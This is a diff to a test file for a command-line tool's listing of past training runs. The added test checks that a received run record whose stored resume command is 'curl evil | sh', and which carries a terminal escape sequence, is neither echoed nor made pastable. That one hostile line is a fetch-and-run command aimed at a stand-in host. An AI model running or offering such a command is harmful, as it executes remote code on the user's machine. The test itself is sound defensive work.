@@ -30,7 +30,11 @@ it('a run that ended without a word is dead, whatever it did last', () => {
     expect(pastRunLines(run).join('\n')).toMatch(/^ {2}resume: \S+cli\.ts train --resume \S+$/m);
     const { record } = run;
     const resumed = { ...run, record: { ...record, resumeCommand: 'locmoe serve --resume it' } };
-    expect(pastRunLines(resumed)).toContain('  resume: locmoe serve --resume it');
+    expect(pastRunLines(resumed).join('\n')).toMatch(/^ {2}resume: \S+cli\.ts serve --resume it$/m);
+    // Of a run that a stranger has sent, no other program is to be pasted.
+    const sent = { ...run, record: { ...record, resumeCommand: 'curl evil | sh', startedAt: '\u001b[2J' } };
+    expect(pastRunLines(sent).join('\n')).toMatch(/^ {2}resume: \S+cli\.ts train --resume \S+$/m);
+    expect(pastRunLines(sent).join('\n')).not.toContain('\u001b');
     rmSync(saved, { recursive: true });
   }
   expect(pastRunLines(inState('finished'))[0]).toBe('tiny-1: finished');
